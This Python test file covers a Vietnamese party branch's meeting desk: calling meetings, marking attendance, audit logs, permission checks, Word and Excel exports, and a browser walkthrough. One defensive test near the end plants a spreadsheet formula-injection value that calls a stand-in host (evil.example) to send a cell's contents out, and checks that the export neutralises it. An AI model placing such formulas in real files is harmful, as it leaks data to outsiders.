"""Cuộc họp on the secretary's desk: the calendar, preparing and calling a meeting, the attendance
sheet marked in one submit (through the chat's own rules and audit), the sign-in sheet, the minutes as
a Word document, attendance rates; each through the permission matrix; and in a real browser."""

from __future__ import annotations

import asyncio
import io
import re
import shutil
from datetime import datetime, timedelta
from pathlib import Path

import pytest
from fastapi import FastAPI
from sqlmodel import col, select

from bot.demo import COMMITTEE_NAME, DEMO_TIMEZONE
from models.audience import Audience
from models.audit import AuditAction
from models.meetings import MeetingError, MeetingProblem, mark_all, meeting_rates, meetings_between
from models.membership import NotPermitted
from models.tables import (
    Attendance,
    AuditEvent,
    Branch,
    Meeting,
    MeetingInvitation,
    MeetingStatus,
    Member,
    Rsvp,
    utcnow,
)
from tests.chat import vi
from tests.conftest import Demo, LiveServer, make_settings, member_named, serve_app
from tests.desk import anonymous_client, app_runtime, desk_client, sign_in_link
from webhooks.app import create_app

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
SHOTS = Path("/tmp/desk-shots")
TITLE = "Sinh hoạt chi bộ tháng 11"


async def held_meeting(app: FastAPI, *, started: timedelta = timedelta(hours=1)) -> tuple[int, list[Member]]:
    """A regular meeting of the branch Trường called and begun ``started`` ago, every member of the
    branch invited: the first checked in, the second asked to be excused (awaiting the secretary)."""
    now = utcnow()
    async with app_runtime(app).sessions() as session, session.begin():
        branch = (await session.exec(select(Branch).where(Branch.code == "TRUONG"))).one()
        members = list(
            (await session.exec(select(Member).where(Member.branch_id == branch.id).order_by(col(Member.id)))).all()
        )
        meeting = Meeting(
            branch_id=branch.id,
            title=TITLE,
            starts_at=now - started,
            place="Phòng họp nhà trường",
            agenda=["Kiểm điểm công tác tháng", "Phương hướng tháng tới"],
            audience=Audience(branches=(branch.id or 0,)).to_json(),
            status=MeetingStatus.CALLED,
            called_at=now - timedelta(days=7),
        )
        session.add(meeting)
        await session.flush()
        for index, member in enumerate(members):
            session.add(
                MeetingInvitation(
                    meeting_id=meeting.id or 0,
                    member_id=member.id or 0,
                    checked_in_at=now - started if index == 0 else None,
                    rsvp=Rsvp.EXCUSED if index == 1 else None,
                    reason="Đi công tác huyện" if index == 1 else None,
                )
            )
    return meeting.id or 0, members


async def attendance_audits(app: FastAPI) -> list[AuditEvent]:
    async with app_runtime(app).sessions() as session:
        rows = await session.exec(
            select(AuditEvent)
            .where(col(AuditEvent.action) == AuditAction.MEETING_ATTENDANCE)
            .order_by(col(AuditEvent.id))
        )
        return list(rows.all())


async def test_a_whole_sheet_is_marked_through_the_chats_rules(desk_app: FastAPI, demo: Demo) -> None:
    runtime = app_runtime(desk_app)
    meeting_id, members = await held_meeting(desk_app)
    thanh = await member_named(runtime, "Võ Thị Thanh")
    checked_in, asked, *others = members
    marks = {
        checked_in.id or 0: (Attendance.PRESENT, None),  # already present by check-in: nothing to record
        asked.id or 0: (Attendance.EXCUSED, None),  # accepting their reason keeps it
        others[0].id or 0: (Attendance.ABSENT, None),
        others[1].id or 0: (Attendance.EXCUSED, "Ốm"),
        others[2].id or 0: (Attendance.UNRECORDED, None),  # left blank: not recorded
    }
    async with runtime.sessions() as session, session.begin():
        meeting = await session.get(Meeting, meeting_id)
        assert meeting is not None
        assert await mark_all(session, thanh, meeting, marks) == 3
        # The same sheet again changes nothing and audits nothing.
        assert await mark_all(session, thanh, meeting, marks) == 0
    audits = await attendance_audits(desk_app)
    assert [(a.subject_id, a.after) for a in audits] == [
        (asked.id, {"meeting": meeting_id, "attendance": "excused", "excuse": "Đi công tác huyện"}),
        (others[0].id, {"meeting": meeting_id, "attendance": "absent"}),
        (others[1].id, {"meeting": meeting_id, "attendance": "excused", "excuse": "Ốm"}),
    ]
    assert {a.actor_member_id for a in audits} == {thanh.id}
    async with desk_client(desk_app, thanh) as desk:  # the log says why the absence was excused
        log = (await desk.get("/desk/audit?kind=meetings")).text
    assert vi("excused, reason: {reason}").format(reason="Đi công tác huyện") in log
    async with runtime.sessions() as session:
        stored = {i.member_id: i for i in (await session.exec(select(MeetingInvitation))).all()}
    assert stored[asked.id or 0].reason == "Đi công tác huyện" and stored[others[1].id or 0].reason == "Ốm"
    assert stored[others[2].id or 0].attendance is None

    quang = await member_named(runtime, "Lý Văn Quang")  # another branch's secretary
    stranger = await member_named(runtime, "Nguyễn Văn Hùng")  # of Đông: not invited to Trường's meeting
    async with runtime.sessions() as session, session.begin():
        meeting = await session.get(Meeting, meeting_id)
        assert meeting is not None
        with pytest.raises(NotPermitted):
            await mark_all(session, quang, meeting, {others[3].id or 0: (Attendance.ABSENT, None)})
        with pytest.raises(MeetingError) as refused:
            await mark_all(session, thanh, meeting, {stranger.id or 0: (Attendance.PRESENT, None)})
        assert refused.value.problem is MeetingProblem.NOT_INVITED
        meeting.attendance_confirmed_at = utcnow()
        session.add(meeting)
        with pytest.raises(MeetingError) as confirmed:
            await mark_all(session, thanh, meeting, {others[3].id or 0: (Attendance.ABSENT, None)})
        assert confirmed.value.problem is MeetingProblem.CONFIRMED


async def test_the_calendar_and_rates_per_meeting(desk_app: FastAPI, demo: Demo) -> None:
    runtime = app_runtime(desk_app)
    meeting_id, members = await held_meeting(desk_app, started=timedelta(days=2))
    thanh = await member_named(runtime, "Võ Thị Thanh")
    async with runtime.sessions() as session, session.begin():
        meeting = await session.get(Meeting, meeting_id)
        assert meeting is not None
        truong = meeting.branch_id or 0
        now = utcnow()
        shown = await meetings_between(session, (truong,), now - timedelta(days=3), now)
        assert [m.id for m in shown] == [meeting_id]
        assert await meetings_between(session, (truong,), now - timedelta(days=1), now) == []
        assert await meeting_rates(session, (truong,)) == []  # not final until confirmed
        await mark_all(session, thanh, meeting, {m.id or 0: (Attendance.PRESENT, None) for m in members[2:]})
        meeting.attendance_confirmed_at = now
        session.add(meeting)
    async with runtime.sessions() as session:
        (rate,) = await meeting_rates(session, (truong,))
    assert rate.summary.present == len(members) - 1 and rate.rate == pytest.approx(rate.summary.present / len(members))


def xlsx_text(content: bytes) -> str:
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    return "\n".join(str(cell) for row in sheet.iter_rows(values_only=True) for cell in row)


def docx_text(content: bytes) -> str:
    from docx import Document

    document = Document(io.BytesIO(content))
    cells = [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    return "\n".join([p.text for p in document.paragraphs] + cells)


async def test_the_same_sheet_sent_six_times_at_once_audits_each_change_once(desk_app: FastAPI, demo: Demo) -> None:
    """Six identical submits at the same moment (a double-clicking secretary, a slow network) left
    the right states but five extra audit lines per member."""
    runtime = app_runtime(desk_app)
    meeting_id, members = await held_meeting(desk_app)
    _checked_in, asked, absent, *rest = members
    form = {f"state-{m.id}": "present" for m in rest}
    form |= {f"state-{asked.id}": "excused", f"state-{absent.id}": "absent", f"reason-{asked.id}": "Ốm"}
    async with desk_client(desk_app, await member_named(runtime, "Võ Thị Thanh")) as desk:
        await desk.csrf()  # read once, before the six submits
        sent = await asyncio.gather(*(desk.post(f"/desk/meetings/{meeting_id}/attendance", form) for _ in range(6)))
    assert [answer.status_code for answer in sent] == [303] * 6
    audits = await attendance_audits(desk_app)
    assert sorted(a.subject_id or 0 for a in audits) == sorted(m.id or 0 for m in members[1:])
    async with runtime.sessions() as session:
        stored = {i.member_id: i for i in (await session.exec(select(MeetingInvitation))).all()}
    assert stored[asked.id or 0].attendance is Attendance.EXCUSED and stored[asked.id or 0].reason == "Ốm"
    assert stored[absent.id or 0].attendance is Attendance.ABSENT and stored[absent.id or 0].rsvp is None


async def test_the_secretary_marks_the_sheet_and_prints_the_papers(desk_app: FastAPI, demo: Demo) -> None:
    runtime = app_runtime(desk_app)
    meeting_id, members = await held_meeting(desk_app)
    _checked_in, asked, absent, ill, *rest = members
    async with desk_client(desk_app, await member_named(runtime, "Võ Thị Thanh")) as desk:
        sheet = await desk.get(f"/desk/meetings/{meeting_id}/attendance")
        assert sheet.status_code == 200 and len(sheet.content) < 100_000
        assert "Đi công tác huyện" in sheet.text and f'name="state-{rest[0].id}"' in sheet.text
        form = {f"state-{m.id}": "present" for m in rest}
        form |= {f"state-{asked.id}": "excused", f"state-{absent.id}": "absent", f"state-{ill.id}": "excused"}
        form |= {f"reason-{ill.id}": "Ốm, có giấy"}
        saved = await desk.post(f"/desk/meetings/{meeting_id}/attendance", form)
        assert saved.status_code == 303
        assert vi("Saved.") in (await desk.get(saved.headers["location"])).text
        confirmed = await desk.post(f"/desk/meetings/{meeting_id}/attendance", {**form, "do": "confirm"})
        assert confirmed.status_code == 303
        after = (await desk.get(confirmed.headers["location"])).text
        assert vi("The attendance list is confirmed.") in after and "disabled" in after
        again = await desk.post(f"/desk/meetings/{meeting_id}/attendance", {f"state-{absent.id}": "present"})
        assert (
            again.status_code == 422 and vi("The attendance list of this meeting is already confirmed.") in again.text
        )

        typed = {"minutes": "Đồng chí Bí thư quán triệt nghị quyết.", "conclusions": "Hoàn thành kế hoạch trồng cây."}
        assert (await desk.post(f"/desk/meetings/{meeting_id}/minutes", typed)).status_code == 303
        secret = await desk.post(
            f"/desk/meetings/{meeting_id}/minutes", {"minutes": "MẬT\nNội dung", "conclusions": ""}
        )
        assert secret.status_code == 422
        paper = await desk.get(
            f"/desk/meetings/{meeting_id}/minutes?format=docx&chair=Võ Thị Thanh&minute_taker=Lê Văn B"
        )
        assert paper.headers["content-type"].startswith("application/vnd.openxmlformats")
        text = docx_text(paper.content)
        for expected in (
            TITLE,
            "Phòng họp nhà trường",
            vi("Chair: {name}").format(name="Võ Thị Thanh"),
            vi("Minute-taker: {name}").format(name="Lê Văn B"),
            f"{asked.full_name} (Đi công tác huyện)",
            f"{ill.full_name} (Ốm, có giấy)",
            vi("Absent without reason ({count}): {names}").format(count=1, names=absent.full_name),
            "1. Kiểm điểm công tác tháng",
            "Đồng chí Bí thư quán triệt nghị quyết.",
            "Hoàn thành kế hoạch trồng cây.",
            vi("(signature and full name)"),
        ):
            assert expected in text, expected
        assert "MẬT" not in text  # the classified text was refused, as in chat
        signin = await desk.get(f"/desk/meetings/{meeting_id}/sign-in")
        assert all(m.full_name in signin.text for m in members) and vi("Signature") in signin.text
        assert COMMITTEE_NAME.upper() in signin.text  # the party committee above the branch, as on paper
        signin_doc = docx_text((await desk.get(f"/desk/meetings/{meeting_id}/sign-in?format=docx")).content)
        assert all(m.full_name in signin_doc for m in members)
        rates = await desk.get("/desk/meetings/rates")
        assert TITLE in rates.text and absent.full_name in rates.text
        export = xlsx_text((await desk.get("/desk/meetings/rates?format=xlsx")).content)
        assert absent.full_name in export and vi("Rate (%)") in export
        sheet_export = xlsx_text((await desk.get(f"/desk/meetings/{meeting_id}/attendance?format=xlsx")).content)
        assert f"{ill.full_name}\n{vi('Excused absence')}\nỐm, có giấy" in sheet_export
    audits = await attendance_audits(desk_app)
    assert len(audits) == len(members) - 1  # the checked-in member needed no mark
    async with runtime.sessions() as session:
        meeting = await session.get(Meeting, meeting_id)
        assert meeting is not None and meeting.attendance_confirmed_at is not None


async def test_preparing_and_calling_a_meeting(desk_app: FastAPI, demo: Demo) -> None:
    runtime = app_runtime(desk_app)
    thanh = await member_named(runtime, "Võ Thị Thanh")
    day = (utcnow() + timedelta(days=10)).astimezone(runtime.settings.tz).date()
    async with desk_client(desk_app, thanh) as desk:
        form = {
            "title": "Sinh hoạt chuyên đề quý IV",
            "branch": str(thanh.branch_id),
            "kind": "thematic",
            "audience": "all",
            "day": day.strftime("%d/%m/%Y"),  # as the field shows it, whatever the browser's language
            "time": "19:30",
            "place": "Hội trường thôn",
            "agenda": "1. Học tập chuyên đề\n2. Liên hệ bản thân",
        }
        made = await desk.post("/desk/meetings", form)
        assert made.status_code == 303
        page = await desk.get(made.headers["location"])
        assert "Học tập chuyên đề" in page.text and vi("Send the invitations") in page.text
        assert f'placeholder="dd/mm/yyyy" required value="{day.strftime("%d/%m/%Y")}"' in page.text
        assert 'type="date"' not in page.text + (await desk.get("/desk/meetings")).text
        meeting_id = int(made.headers["location"].split("/")[3].split("?")[0])
        preparing = (await desk.get("/desk/meetings")).text
        assert vi("Being prepared") in preparing and "Sinh hoạt chuyên đề quý IV" in preparing
        past = await desk.post("/desk/meetings", {**form, "day": "2020-01-01"})
        assert past.status_code == 422 and vi("That time has already passed. Please type a later one.") in past.text
        for typed in ("31/02/2027", "12/31/2026"):  # no such day; a browser's mm/dd/yyyy
            refused = await desk.post("/desk/meetings", {**form, "day": typed})
            shown = vi("\u201c{typed}\u201d is not a day. Please type it as dd/mm/yyyy, e.g. 05/12/2026.")
            assert refused.status_code == 422 and shown.format(typed=typed) in refused.text
            # The form comes back as typed beside the reason, not an empty one behind a "Back" link.
            assert f'value="{typed}"' in refused.text and "Hội trường thôn" in refused.text
            assert "Liên hệ bản thân" in refused.text and 'value="Sinh hoạt chuyên đề quý IV"' in refused.text
            assert vi("Nothing was saved") not in refused.text
            kept = await desk.post(f"/desk/meetings/{meeting_id}", {**form, "day": typed, "place": "Nhà văn hóa"})
            assert kept.status_code == 422 and shown.format(typed=typed) in kept.text
            assert f'value="{typed}"' in kept.text and 'value="Nhà văn hóa"' in kept.text
        far = await desk.post("/desk/meetings", {**form, "day": "01/01/2099"})
        assert far.status_code == 422
        too_far = vi(
            "A meeting can be set at most a year ahead, up to and including {day}. Please type an earlier day."
        )
        last = datetime.now(DEMO_TIMEZONE).date()
        last = last.replace(year=last.year + 1, day=28 if (last.month, last.day) == (2, 29) else last.day)
        assert too_far.format(day=last.strftime("%d/%m/%Y")) in far.text
        assert 'value="01/01/2099"' in far.text  # the domain's refusal keeps the form too
        edited = await desk.post(
            f"/desk/meetings/{meeting_id}",
            {**form, "place": "Nhà văn hóa thôn", "agenda": "Học tập chuyên đề\nLiên hệ bản thân"},
        )
        assert edited.status_code == 303
        files = {"file": ("tai-lieu.txt", "Đề cương chuyên đề".encode(), "text/plain")}
        added = await desk.client.post(
            f"/desk/meetings/{meeting_id}/documents", data={"csrf": await desk.csrf()}, files=files
        )
        assert added.status_code == 303 and "tai-lieu.txt" in (await desk.get(f"/desk/meetings/{meeting_id}")).text
        secret = {"file": ("ke-hoach.txt", "MẬT\nKế hoạch".encode(), "text/plain")}
        refused = await desk.client.post(
            f"/desk/meetings/{meeting_id}/documents", data={"csrf": await desk.csrf()}, files=secret
        )
        assert (
            refused.status_code == 422 and "ke-hoach.txt" not in (await desk.get(f"/desk/meetings/{meeting_id}")).text
        )
        called = await desk.post(f"/desk/meetings/{meeting_id}", {"do": "call"})
        assert called.status_code == 303
        assert vi("Being prepared") not in (await desk.get("/desk/meetings")).text
        calendar = await desk.get(f"/desk/meetings?month={day.strftime('%Y-%m')}")
        assert "Sinh hoạt chuyên đề quý IV" in calendar.text and vi("Called") in calendar.text
        listed = await desk.get(f"/desk/meetings?month={day.strftime('%Y-%m')}&format=xlsx")
        assert "Sinh hoạt chuyên đề quý IV" in xlsx_text(listed.content)
    async with runtime.sessions() as session:
        meeting = await session.get(Meeting, meeting_id)
        assert meeting is not None and meeting.status is MeetingStatus.CALLED
        assert meeting.agenda == ["Học tập chuyên đề", "Liên hệ bản thân"] and meeting.place == "Nhà văn hóa thôn"
        starts = meeting.starts_at.astimezone(runtime.settings.tz)
        assert (starts.date(), starts.hour, starts.minute) == (day, 19, 30)
        invited = (
            await session.exec(select(MeetingInvitation).where(MeetingInvitation.meeting_id == meeting_id))
        ).all()
        truong = (await session.exec(select(Member).where(Member.branch_id == thanh.branch_id))).all()
        assert len(invited) == len([m for m in truong if m.active])


async def test_each_reader_sees_what_the_permission_table_allows(desk_app: FastAPI, demo: Demo) -> None:
    runtime = app_runtime(desk_app)
    meeting_id, members = await held_meeting(desk_app)
    month = utcnow().astimezone(runtime.settings.tz).strftime("%Y-%m")
    pages = ("", "/attendance", "/sign-in", "/minutes")
    for name in ("Võ Thị Thanh", "Nguyễn Đức Anh", "Nguyễn Văn Hùng"):  # secretary, deputy, commune secretary
        async with desk_client(desk_app, await member_named(runtime, name)) as desk:
            assert TITLE in (await desk.get(f"/desk/meetings?month={month}")).text, name
            for page in pages:
                shown = await desk.get(f"/desk/meetings/{meeting_id}{page}")
                assert shown.status_code == 200 and len(shown.content) < 100_000, (name, page)
            marked = await desk.post(f"/desk/meetings/{meeting_id}/attendance", {f"state-{members[3].id}": "present"})
            assert marked.status_code == 303, name
    async with desk_client(desk_app, await member_named(runtime, "Lý Văn Quang")) as other:  # Tây's secretary
        assert TITLE not in (await other.get(f"/desk/meetings?month={month}")).text
        for page in pages:
            refused = await other.get(f"/desk/meetings/{meeting_id}{page}")
            assert refused.status_code == 404 and TITLE not in refused.text, page
        posted = await other.post(f"/desk/meetings/{meeting_id}/attendance", {f"state-{members[4].id}": "absent"})
        assert posted.status_code == 404
        truong = members[0].branch_id
        assert (await other.get(f"/desk/meetings/rates?branch={truong}")).status_code == 404
        assert members[4].full_name not in (await other.get("/desk/meetings/rates")).text
        made = await other.post(
            "/desk/meetings", {"title": "x", "branch": str(truong), "day": "2099-01-01", "time": "08:00"}
        )
        assert made.status_code == 404
    plain = await member_named(runtime, "Trần Minh Châu")
    async with anonymous_client(desk_app) as browser:
        opened = await browser.post(await sign_in_link(desk_app, plain))
        assert opened.status_code == 403
        assert (await browser.get(f"/desk/meetings/{meeting_id}/attendance")).status_code == 401
        assert (await browser.get("/desk/meetings")).status_code == 401
    assert len(await attendance_audits(desk_app)) == 1  # one mark, by the first reader; the same again changes nothing


@pytest.fixture
def shots() -> Path:
    SHOTS.mkdir(exist_ok=True)
    return SHOTS


@pytest.mark.skipif(CHROMIUM is None, reason="no Chromium installed (apt-get install chromium)")
async def test_marking_a_meeting_in_the_browser(database_url: str, demo: Demo, shots: Path) -> None:
    async for server in serve_app(create_app(make_settings(database_url), migrate=False)):
        await marking_in_the_browser(server, shots)


async def marking_in_the_browser(server: LiveServer, shots: Path) -> None:
    """The secretary opens the desk, goes to the meeting, marks everyone in one submit and confirms;
    then the sign-in sheet (on screen and as printed), the minutes and the rates."""
    from playwright.async_api import async_playwright

    meeting_id, members = await held_meeting(server.app)
    link = await sign_in_link(server.app, await member_named(app_runtime(server.app), "Võ Thị Thanh"))
    async with async_playwright() as playwright:
        browser = await playwright.chromium.launch(
            executable_path=CHROMIUM,
            args=["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update"],
        )
        try:
            desk = await browser.new_page(viewport={"width": 1366, "height": 768}, locale="vi-VN")
            errors: list[str] = []
            desk.on("console", lambda message: errors.append(message.text) if message.type == "error" else None)
            await desk.goto(server.url + link)
            await desk.get_by_role("button", name="Mở bàn làm việc").click()
            await desk.get_by_role("link", name="Cuộc họp", exact=True).click()
            await desk.get_by_role("heading", name=vi("Meetings"), exact=True).wait_for()
            await desk.screenshot(path=str(shots / "meetings.png"), full_page=True)
            await desk.get_by_role("link", name=TITLE).first.click()
            await desk.screenshot(path=str(shots / "meeting.png"), full_page=True)
            await desk.get_by_role("link", name=vi("Attendance sheet")).click()
            for member in members[2:]:
                await desk.get_by_label(f"{member.full_name}: {vi('Present')}").check()
            await desk.get_by_label(f"{members[1].full_name}: {vi('Excused absence')}").check()
            await desk.screenshot(path=str(shots / "meeting-attendance.png"), full_page=True)
            await desk.get_by_role("button", name=vi("Save the attendance")).click()
            await desk.get_by_role("status").filter(has_text=vi("Saved.")).wait_for()
            await desk.get_by_label(vi("The remaining comrades: absent without reason")).check()
            await desk.get_by_role("button", name=re.compile(vi("Save and confirm the list"))).click()
            await desk.get_by_role("status").filter(has_text=vi("The attendance list is confirmed.")).wait_for()
            await desk.screenshot(path=str(shots / "meeting-confirmed.png"), full_page=True)
            await desk.goto(f"{server.url}/desk/meetings/{meeting_id}/sign-in")
            await desk.screenshot(path=str(shots / "meeting-signin.png"), full_page=True)
            await desk.emulate_media(media="print")
            await desk.screenshot(path=str(shots / "meeting-signin-print.png"), full_page=True)
            assert (await desk.pdf(format="A4")).startswith(b"%PDF")
            await desk.emulate_media(media="screen")
            await desk.goto(f"{server.url}/desk/meetings/{meeting_id}/minutes")
            await desk.screenshot(path=str(shots / "meeting-minutes.png"), full_page=True)
            await desk.goto(f"{server.url}/desk/meetings/rates")
            await desk.screenshot(path=str(shots / "meeting-rates.png"), full_page=True)
            assert errors == []
        finally:
            await browser.close()
    async with app_runtime(server.app).sessions() as session:
        meeting = await session.get(Meeting, meeting_id)
        stored = {i.member_id: i for i in (await session.exec(select(MeetingInvitation))).all()}
    assert meeting is not None and meeting.attendance_confirmed_at is not None
    assert all(stored[m.id or 0].attendance is Attendance.PRESENT for m in members[2:])
    assert stored[members[1].id or 0].attendance is Attendance.EXCUSED


async def test_the_minutes_suggest_no_signer_recorded_away(desk_app: FastAPI, demo: Demo) -> None:
    """The deputy usually keeps the minutes; recorded excused, they are not suggested (was: the
    minutes named as their minute-taker a member they listed as away, ill)."""
    runtime = app_runtime(desk_app)
    meeting_id, _members = await held_meeting(desk_app)
    deputy = await member_named(runtime, "Nguyễn Đức Anh")
    async with desk_client(desk_app, await member_named(runtime, "Võ Thị Thanh")) as desk:
        usual = (await desk.get(f"/desk/meetings/{meeting_id}/minutes")).text
        assert 'name="minute_taker" maxlength="120" value="Nguyễn Đức Anh"' in usual
        form = {f"state-{deputy.id}": "excused", f"reason-{deputy.id}": "Ốm, nằm viện"}
        assert (await desk.post(f"/desk/meetings/{meeting_id}/attendance", form)).status_code == 303
        page = (await desk.get(f"/desk/meetings/{meeting_id}/minutes")).text
    assert 'name="chair" maxlength="120" value="Võ Thị Thanh"' in page
    assert 'value="Nguyễn Đức Anh"' not in page


async def test_what_a_member_typed_cannot_break_or_arm_the_files(desk_app: FastAPI, demo: Demo) -> None:
    """A reason with control characters made every Excel and Word file of the meeting answer 500
    (tester B), and one starting with "=" became a live formula in the Excel file."""
    from openpyxl import load_workbook

    runtime = app_runtime(desk_app)
    meeting_id, members = await held_meeting(desk_app)
    planted = '=HYPERLINK("http://evil.example/?"&B2,"Xem")'
    async with desk_client(desk_app, await member_named(runtime, "Võ Thị Thanh")) as desk:
        form = {f"state-{members[2].id}": "excused", f"reason-{members[2].id}": "Ốm\x1b\x0b nằm viện"}
        form |= {f"state-{members[3].id}": "excused", f"reason-{members[3].id}": planted}
        assert (await desk.post(f"/desk/meetings/{meeting_id}/attendance", form)).status_code == 303
        sheet = await desk.get(f"/desk/meetings/{meeting_id}/attendance?format=xlsx")
        minutes = await desk.get(f"/desk/meetings/{meeting_id}/minutes?format=docx")
    assert sheet.status_code == 200 and minutes.status_code == 200
    book = load_workbook(io.BytesIO(sheet.content))
    cells = [cell for row in book.active.iter_rows() for cell in row]  # type: ignore[union-attr]
    assert any(cell.value == "Ốm nằm viện" for cell in cells)
    [armed] = [cell for cell in cells if cell.value == planted]
    assert armed.data_type == "s"  # words, not a formula
    assert "Ốm nằm viện" in docx_text(minutes.content)


async def test_a_meeting_that_has_started_is_not_coming(desk_app: FastAPI, demo: Demo) -> None:
    runtime = app_runtime(desk_app)
    await held_meeting(desk_app, started=timedelta(minutes=20))
    async with desk_client(desk_app, await member_named(runtime, "Võ Thị Thanh")) as desk:
        page = await desk.get("/desk/meetings")
    assert page.status_code == 200
    coming = page.text.split(vi("Coming meetings"), 1)[1].split("</section>", 1)[0]
    assert TITLE not in coming
